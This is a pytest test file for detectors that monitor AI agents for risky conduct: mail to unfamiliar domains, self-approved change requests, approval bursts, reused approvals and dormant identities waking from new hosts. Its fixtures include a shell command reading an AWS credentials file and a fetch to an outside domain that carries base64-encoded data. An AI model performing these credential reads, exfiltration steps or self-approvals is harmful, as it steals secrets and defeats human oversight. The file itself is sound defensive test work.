"""What leaves the house and who says yes to it: new domains, own requests, a worn-down person."""

from __future__ import annotations

import json

import pytest
from fleets import Fleet, approval, call

from detect.outward import registrable
from detect.run import Detected

DAY = 7


def fired(detected: Detected) -> set[str]:
    assert not detected.failed
    return {f.detector.name for f in detected.found}


def mail(to: str) -> dict[str, object]:
    return call("send_mail", target=None, arguments=json.dumps({"to": to, "subject": "report"}))


def change(made: str = "CHG7001", approved: str = "CHG7001") -> list[dict[str, object]]:
    return [
        call("create_change", target=None, arguments='{"summary": "rule"}', result=json.dumps({"change": made})),
        call("approve_change", target=None, arguments=json.dumps({"change": approved})),
    ]


@pytest.mark.parametrize(
    ("host", "whose"),
    [
        ("mail.shop.example", "shop.example"),
        ("www.shop.co.uk", "shop.co.uk"),
        ("8.8.4.4", "8.8.4.4"),
        ("10.1.2.3", None),
        ("300.1.1.1", None),
    ],
)
def test_whose_a_host_is(host: str, whose: str | None) -> None:
    assert registrable(host) == whose


# sends_to_a_new_domain


@pytest.mark.parametrize(
    ("to", "yes", "is_found"),
    [
        ("relay@elsewhere.example", False, True),
        ("ben@shop.example", False, False),
        ("relay@elsewhere.example", True, False),
    ],
)
def test_an_agent_that_writes_to_few_domains_writes_to_another(
    fleet: Fleet, to: str, yes: bool, is_found: bool
) -> None:
    fleet.habit("reporter", mail("ana@shop.example"))
    fleet.session(
        "reporter", DAY, *([approval(tool="send_mail", arguments=json.dumps({"to": to}))] if yes else []), mail(to)
    )
    assert ("sends_to_a_new_domain" in fired(fleet.judge())) is is_found


def test_an_agent_that_writes_to_customers_may_write_to_another_one(fleet: Fleet) -> None:
    for number in range(40):
        fleet.session("support", number % 5, mail(f"someone@customer-{number}.example"), minute=number)
    fleet.session("support", DAY, mail("someone@elsewhere.example"))
    assert "sends_to_a_new_domain" not in fired(fleet.judge())


def test_a_domain_that_others_know_is_no_news(fleet: Fleet) -> None:
    fleet.habit("reporter", mail("ana@shop.example"))
    fleet.habit("billing", mail("post@partner.example"))
    fleet.session("reporter", DAY, mail("post@partner.example"))
    assert "sends_to_a_new_domain" not in fired(fleet.judge())


def test_a_page_that_is_read_counts_by_where_it_is(fleet: Fleet) -> None:
    for url, day in (("https://docs.shop.example/a", range(5)), ("https://elsewhere.example/p?d=c2FsYXJpZXM", [DAY])):
        for of_day in day:
            for minute in range(8):
                fleet.session("reader", of_day, call("fetch_page", target=url), minute=minute)
    assert "sends_to_a_new_domain" in fired(fleet.judge())


# own_request_approved


@pytest.mark.parametrize(("approved", "is_found"), [("CHG7001", True), ("CHG9999", False)])
def test_who_asks_does_not_approve(fleet: Fleet, approved: str, is_found: bool) -> None:
    fleet.habit("changer", call("create_change", target=None, arguments='{"summary": "rule"}'))
    fleet.session("changer", DAY, *change(approved=approved))
    assert ("own_request_approved" in fired(fleet.judge())) is is_found


def test_an_agent_that_approved_its_own_from_its_first_day_on_says_nothing(fleet: Fleet) -> None:
    fleet.habit("changer", *change())
    fleet.session("changer", DAY, *change())
    assert "own_request_approved" not in fired(fleet.judge())


def test_a_yes_of_its_own_that_was_told_is_no_habit(fleet: Fleet) -> None:
    fleet.habit("changer", call("create_change", target=None, arguments='{"summary": "rule"}'))
    for day in range(DAY, DAY + 4):
        fleet.session("changer", day, *change())
    found = [f for f in fleet.judge().found if f.detector.name == "own_request_approved"]
    assert len(found) == 4, "a person has to call it benign"


# approvals


def test_the_account_of_an_agent_is_no_person(fleet: Fleet) -> None:
    fleet.habit("fw-changer", call("describe_rules", target="fw-1"))
    fleet.session(
        "fw-changer", DAY, approval(by="fw-changer@agents", target="fw-2"), call("modify_firewall_rule", target="fw-2")
    )
    assert "approval_stretched_over_another_action" in fired(fleet.judge())


@pytest.mark.parametrize(("yeses", "is_found"), [(9, True), (3, False)])
def test_a_person_who_hardly_ever_decided_is_judged_by_the_others(fleet: Fleet, yeses: int, is_found: bool) -> None:
    fleet.habit("refunds", approval(by="ben"), call("issue_refund", target="order-1"), a_day=12)
    fleet.session("refunds", DAY, *[one for _ in range(yeses) for one in (approval(by="zoe"), call("issue_refund", target="order-1"))])  # fmt: skip
    assert ("approvals_in_a_burst" in fired(fleet.judge())) is is_found


def test_a_yes_for_another_refund_is_no_yes_for_this_one(fleet: Fleet) -> None:
    def signed(charge: str, done: str) -> list[dict[str, object]]:
        said, does = (json.dumps({"charge": one}) for one in (charge, done))
        return [approval(tool="issue_refund", arguments=said), call("issue_refund", target=None, arguments=does)]

    fleet.habit("refunds", *signed("ch-1", "ch-1"), a_day=12)
    fleet.habit("claims", *signed("ch-3", "ch-3"), a_day=1)
    fleet.session("claims", DAY, *signed("ch-1", "ch-2"))
    assert "usual_approval_missing" in fired(fleet.judge())


# a credential file in a command


def test_a_usual_shell_that_takes_a_token_from_a_file(fleet: Fleet) -> None:
    def shell(command: str) -> dict[str, object]:
        return call("run_shell", arguments=json.dumps({"command": command}))

    fleet.habit("helper", shell("cat /var/log/app.log"))
    fleet.session("helper", DAY, shell("cat /home/deploy/.aws/credentials"))
    assert "usual_tool_does_something_new" in fired(fleet.judge())


# dormant_agent_wakes


@pytest.mark.parametrize(("place", "is_found"), [("203.0.113.9", True), ("10.0.0.1", False)])
def test_a_dormant_identity_that_only_looks_around_from_elsewhere(fleet: Fleet, place: str, is_found: bool) -> None:
    fleet.habit("rightsizer", call("describe_instances", target="eu-1"), days=3, source_host="10.0.0.1")
    fleet.habit("other", call("describe_instances", target="eu-1"), days=12, source_host="10.0.0.1")
    fleet.session("rightsizer", 20, call("describe_instances", target="eu-1"), source_host=place)
    assert ("dormant_agent_wakes" in fired(fleet.judge())) is is_found


def test_a_dormant_person_who_is_always_somewhere_else_is_quiet(fleet: Fleet) -> None:
    look = call("describe_instances", target="eu-1")
    for day in range(3):
        for number in range(4):
            fleet.session("sso/ana", day, look, minute=number * 30, source_host=f"203.0.113.{day * 4 + number}")
    fleet.habit("other", look, days=12, source_host="10.0.0.1")
    fleet.session("sso/ana", 20, look, source_host="198.51.100.7")
    assert "dormant_agent_wakes" not in fired(fleet.judge())
